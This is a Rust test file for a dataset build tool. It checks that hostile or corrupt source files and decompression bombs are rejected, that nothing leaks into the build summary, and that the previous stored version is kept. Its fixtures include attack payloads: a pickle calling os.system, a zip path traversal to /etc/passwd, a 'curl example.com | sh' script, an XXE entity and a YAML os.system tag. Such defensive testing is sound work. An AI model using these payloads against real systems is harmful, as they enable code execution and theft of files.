//! Files that somebody hostile, or a broken export, puts where rows should be: the build ends with the
//! source's name, nothing of it is seen in the store, and the version before stays.

use std::collections::BTreeSet;
use std::io::Write as _;

use super::sources::{gzip, parquet};
use super::*;

/// Beginnings of what is no table.
const FOREIGN: [(&str, &[u8]); 25] = [
    ("pickle 2", b"\x80\x02cos\nsystem\n(S'id'\ntR."),
    ("pickle 4", b"\x80\x04\x95\x1d\x00\x00\x00"),
    ("pickle 5", b"\x80\x05\x95\x1d\x00\x00\x00"),
    ("zip", b"PK\x03\x04\x14\x00../../etc/passwd"),
    ("empty zip", b"PK\x05\x06\x00\x00\x00\x00"),
    ("ELF", b"\x7fELF\x02\x01\x01"),
    ("Windows program", b"MZ\x90\x00\x03"),
    ("Mach-O", b"\xcf\xfa\xed\xfe\x07"),
    ("Java class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34"),
    ("script", b"#!/bin/sh\ncurl example.com | sh\n"),
    ("NumPy", b"\x93NUMPY\x01\x00"),
    ("HDF5", b"\x89HDF\r\n\x1a\n"),
    ("GGUF", b"GGUF\x03\x00\x00\x00"),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04"),
    ("RAR", b"Rar!\x1a\x07\x01\x00"),
    ("xz", b"\xfd7zXZ\x00\x00\x04"),
    ("bzip2", b"BZh91AY&SY"),
    ("lz4", b"\x04\x22\x4d\x18\x64\x40"),
    ("cabinet", b"MSCF\x00\x00\x00\x00"),
    ("SQLite", b"SQLite format 3\x00\x10\x00"),
    ("PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    ("PNG", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    ("Avro", b"Obj\x01\x04\x14avro.codec"),
    ("ORC", b"ORC\x0a\x0b\x0c"),
    (
        "safetensors",
        b"\x40\x00\x00\x00\x00\x00\x00\x00{\"__metadata__\":{}}",
    ),
];

/// Texts that hold no row of two columns.
const TEXTS: [(&str, &[u8]); 24] = [
    ("a list", b"[{\"prompt\": \"a\", \"completion\": \"b\"}]"),
    ("a number", b"7"),
    ("open braces", b"{\"prompt\": {{{{{"),
    ("a cut row", b"{\"prompt\": \"a\", \"comple"),
    ("two rows in a line", b"{\"prompt\": \"a\"} {\"completion\": \"b\"}"),
    ("lone surrogate", b"{\"prompt\": \"\\ud800\", \"completion\": \"b\"}"),
    ("huge number", b"{\"prompt\": 1e999, \"completion\": \"b\"}"),
    ("NaN", b"{\"prompt\": NaN, \"completion\": \"b\"}"),
    ("single quotes", b"{'prompt': 'a', 'completion': 'b'}"),
    ("null", b"{\"prompt\": null, \"completion\": \"b\"}"),
    ("no UTF-8", b"{\"prompt\": \"\xff\xfe\", \"completion\": \"b\"}"),
    ("overlong slash", b"{\"prompt\": \"..\xc0\xaf\", \"completion\": \"b\"}"),
    ("Latin-1", b"{\"prompt\": \"\xe9t\xe9\", \"completion\": \"b\"}"),
    ("UTF-16", b"\xff\xfe{\x00\"\x00p\x00\"\x00:\x001\x00}\x00"),
    ("raw control character", b"{\"prompt\": \"a\x00b\", \"completion\": \"b\"}"),
    ("HTML", b"<!doctype html><html><body>403 Forbidden</body></html>"),
    ("XML", b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    ("YAML", b"- prompt: a\n  completion: !!python/object/apply:os.system [id]\n"),
    ("a pointer of Git LFS", b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n"),
    ("CSV without a column", b"prompt,other\na,b\nc,d\n"),
    ("CSV with one field too many", b"prompt,completion\na,b,c\nd,e,f\n"),
    ("CSV with one field too few", b"prompt,completion\na\nb\n"),
    ("CSV with a quote that stays open", b"prompt,completion\n\"a,b\nc,d\n"),
    ("CSV with a column twice", b"prompt,completion,prompt\na,b,c\n"),
];

fn zstd(bytes: &[u8]) -> Vec<u8> {
    zstd::stream::encode_all(bytes, 1).unwrap()
}

/// All hostile files, each with a name.
fn files() -> Vec<(String, Vec<u8>)> {
    let mut files = Vec::new();
    for (name, bytes) in FOREIGN.iter().chain(&TEXTS) {
        files.push(((*name).to_owned(), bytes.to_vec()));
    }
    for (name, bytes) in FOREIGN {
        files.push((format!("{name} in gzip"), gzip(bytes)));
    }
    let rows = completions(0..100);
    let (packed, frames) = (gzip(rows.as_bytes()), zstd(rows.as_bytes()));
    files.push(("gzip in gzip".to_owned(), gzip(&packed)));
    files.push(("gzip in zstd".to_owned(), zstd(&packed)));
    files.push(("Parquet in gzip".to_owned(), gzip(&parquet(0..9))));
    for (name, whole) in [("gzip", &packed), ("zstd", &frames)] {
        for part in [1, 3, 9, 20, whole.len() / 2, whole.len() - 1] {
            files.push((format!("{name} cut after {part}"), whole[..part].to_vec()));
        }
    }
    for back in 1..=8 {
        let mut wrong = packed.clone();
        let at = wrong.len() - back;
        wrong[at] ^= 0xff;
        files.push((format!("gzip with another sum at -{back}"), wrong));
    }
    let whole = parquet(0..50);
    for part in [4, 8, 12, whole.len() / 4, whole.len() / 2, whole.len() - 1] {
        files.push((format!("Parquet cut after {part}"), whole[..part].to_vec()));
    }
    for back in 1..=8 {
        let mut lying = whole.clone();
        let at = lying.len() - back;
        lying[at] ^= 0xff;
        files.push((format!("Parquet with another footer at -{back}"), lying));
    }
    files.push(("deep lists".to_owned(), "[".repeat(100_000).into_bytes()));
    let deep = format!("{{\"prompt\": {}", "{\"a\": ".repeat(100_000));
    files.push(("deep objects".to_owned(), deep.into_bytes()));
    files
}

/// An archive of one file, as POSIX says.
fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = vec![0; 512];
    let mut put = |at: usize, text: &str| {
        header[at..at + text.len()].copy_from_slice(text.as_bytes());
    };
    put(0, name);
    put(100, "0000644");
    put(108, "0000000");
    put(116, "0000000");
    put(124, &format!("{:011o}", bytes.len()));
    put(136, "00000000000");
    put(148, "        ");
    put(156, "0");
    put(257, "ustar");
    put(263, "00");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut archive = header;
    archive.extend(bytes);
    archive.resize(archive.len().next_multiple_of(512) + 1024, 0);
    archive
}

#[test]
fn an_archive_of_good_rows_is_no_source_whatever_may_be_invalid() {
    let mut bench = with_a_version();
    let before = bench.stored();
    bench.config.validation.maximum_invalid_percent = "50".into();
    let archive = tar("rows.jsonl", completions(0..100).as_bytes());
    for (name, bytes) in [
        ("tar", archive.clone()),
        ("tar.gz", gzip(&archive)),
        ("tar.zst", zstd(&archive)),
    ] {
        bench.bytes("archive", &bytes);
        bench.fingerprint(name);
        let (code, summary) = bench.build();
        assert_eq!(
            (code, summary.reason.as_str()),
            (65, "DataError"),
            "{name}: {summary:?}"
        );
        for words in ["source archive", "a tar archive"] {
            assert!(summary.message.contains(words), "{name}: {summary:?}");
        }
        assert_eq!(bench.stored(), before, "{name}");
    }
}

/// A version, and then a source of which nothing may be seen.
fn with_a_version() -> Bench {
    let mut bench = Bench::new(Format::Completion);
    bench.source("rows", &completions(0..50));
    assert_eq!(bench.build().0, 0);
    bench.config.sources.clear();
    bench
}

#[test]
fn hostile_files_end_the_build_with_their_source_and_leave_the_store_as_it_was() {
    let files = files();
    assert!(files.len() >= 80, "{}", files.len());
    let mut bench = with_a_version();
    let before = bench.stored();
    for (name, bytes) in files {
        bench.bytes("hostile", &bytes);
        bench.fingerprint(&name);
        let (code, summary) = bench.build();
        assert_eq!(
            (code, summary.reason.as_str()),
            (65, "DataError"),
            "{name}: {summary:?}"
        );
        assert!(
            summary.message.contains("source hostile"),
            "{name}: {summary:?}"
        );
        for secret in ["passwd", "system", "example.com"] {
            assert!(
                !format!("{summary:?}").contains(secret),
                "{name}: {summary:?}"
            );
        }
        assert_eq!(bench.stored(), before, "{name}");
    }
    assert_eq!(bench.version(1).unwrap().rows.kept(), 50);
}

#[test]
fn a_bomb_ends_early_and_a_line_of_a_gibibyte_is_one_bad_row() {
    let mut bench = with_a_version();
    let before = bench.stored();
    let alike = vec![b'a'; 300 << 20];
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&alike).unwrap();
    for (name, bomb) in [("gzip", encoder.finish().unwrap()), ("zstd", zstd(&alike))] {
        bench.bytes("bomb", &bomb);
        bench.fingerprint(name);
        let (code, summary) = bench.build();
        assert_eq!(
            (code, summary.reason.as_str()),
            (65, "DataError"),
            "{name}: {summary:?}"
        );
        for words in ["source bomb", "400 times its size"] {
            assert!(summary.message.contains(words), "{name}: {summary:?}");
        }
    }
    // The file has no blocks: it takes a gibibyte to read, and none of the disk.
    bench.source("line", "");
    bench.config.sources.retain(|source| source.name == "line");
    let mut file = fs::File::create(bench.dir.path().join("line.jsonl")).unwrap();
    file.write_all(&alike[..1 << 20]).unwrap();
    file.set_len(1 << 30).unwrap();
    let (code, summary) = bench.build();
    assert_eq!((code, summary.reason.as_str()), (65, "DataError"));
    assert!(
        summary
            .message
            .contains("source line line 1: is longer than 4194304 bytes"),
        "{summary:?}"
    );
    assert_eq!(bench.stored(), before);
}

#[test]
fn no_rows_are_no_version() {
    let mut bench = with_a_version();
    let before = bench.stored();
    for (name, text) in [
        ("nothing", ""),
        ("blanks", "\n \n\n"),
        ("a header", "prompt,completion\n"),
    ] {
        bench.source("rows", text);
        bench.fingerprint(name);
        let (code, summary) = bench.build();
        assert_eq!((code, summary.reason.as_str()), (65, "DataError"), "{name}");
        for words in [
            "0 of 0 rows are valid, spec.validation.minimumRows asks for 1",
            "source rows has no rows",
        ] {
            assert!(summary.message.contains(words), "{name}: {summary:?}");
        }
        assert_eq!(bench.stored(), before, "{name}");
    }
}

/// Builds where `folder` is a disk of its own that holds so much; none where the machine lets nobody make
/// such a disk.
fn on_a_small_disk(
    bench: &Bench,
    folder: &Path,
    (size, more): (&str, &[&str]),
) -> Option<(i32, BuildSummary)> {
    const NO_DISK: i32 = 200;
    // The disk begins with what the folder had, and what it has at the end is listed beside it.
    const SCRIPT: &str = r#"
        cp -a "$0" "$0.kept" && mount -t tmpfs -o size="$1" tmpfs "$0" && cp -a "$0.kept/." "$0" || exit 200
        shift; "$@"; code=$?
        (cd "$0" && find . -type f) > "$0.left"
        exit $code"#;
    let path = bench.dir.path().join("config.json");
    fs::write(&path, serde_json::to_vec(&bench.config).unwrap()).unwrap();
    let inner = command(&path, &bench.store_dir(), &bench.summary_file());
    let status = Command::new("unshare")
        .args(["-rm", "sh", "-c", SCRIPT])
        .args([folder.as_os_str(), size.as_ref(), inner.get_program()])
        .args(inner.get_args())
        .args([Path::new("--scratch"), bench.scratch_dir().as_path()])
        .args(["--memory-bytes", "20000"])
        .args(more)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    match status.ok().and_then(|status| status.code()) {
        None | Some(1 | NO_DISK) => {
            super::postgres::skipped("small disk that may be mounted");
            None
        }
        Some(code) => Some((code, read_summary(&bench.summary_file()))),
    }
}

/// Rows that no packing makes small.
fn random_rows() -> String {
    (0..20_000_u32).fold(String::new(), |text, n| {
        let noise = Digest::of(&n.to_le_bytes());
        let (prompt, completion) = noise.hex().split_at(40);
        text + &format!("{{\"prompt\": \"{prompt}\", \"completion\": \"{completion}\"}}\n")
    })
}

#[test]
fn a_disk_that_fills_is_named_tried_again_and_leaves_the_version_before() {
    let mut bench = with_a_version();
    let before = bench.stored();
    bench.source("many", &random_rows());
    bench.fingerprint("scratch");
    let scratch = bench.scratch_dir();
    let Some((code, summary)) = on_a_small_disk(&bench, &scratch, ("128k", &[])) else {
        return;
    };
    assert_eq!(
        (code, summary.reason.as_str()),
        (69, "StorageUnavailable"),
        "{summary:?}"
    );
    for words in ["source many: the scratch volume", "is full"] {
        assert!(summary.message.contains(words), "{words}: {summary:?}");
    }
    assert_eq!(bench.stored(), before);

    let store = bench.store_dir();
    let (code, summary) = on_a_small_disk(&bench, &store, ("256k", &[])).unwrap();
    assert_eq!(
        (code, summary.reason.as_str()),
        (69, "StorageUnavailable"),
        "{summary:?}"
    );
    for words in ["source many: ", "the artifact store's volume is full"] {
        assert!(summary.message.contains(words), "{words}: {summary:?}");
    }
    // What is on its way is not the store's yet.
    let left = fs::read_to_string(store.with_file_name("store.left")).unwrap();
    let left: BTreeSet<&str> = left
        .lines()
        .filter_map(|line| line.strip_prefix("./"))
        .filter(|path| !path.starts_with('.'))
        .collect();
    let before: BTreeSet<&str> = before.iter().map(String::as_str).collect();
    assert_eq!(left, before);

    // A part of a build says it too.
    fs::remove_dir_all(store.with_file_name("store.kept")).unwrap();
    bench.config.shards = Some(2);
    let (code, summary) = on_a_small_disk(&bench, &store, ("256k", &["--part", "0"])).unwrap();
    assert_eq!(code, 69, "{summary:?}");
    for words in [
        "part 1 of 2: ",
        "source many: ",
        "the artifact store's volume is full",
    ] {
        assert!(summary.message.contains(words), "{words}: {summary:?}");
    }
}
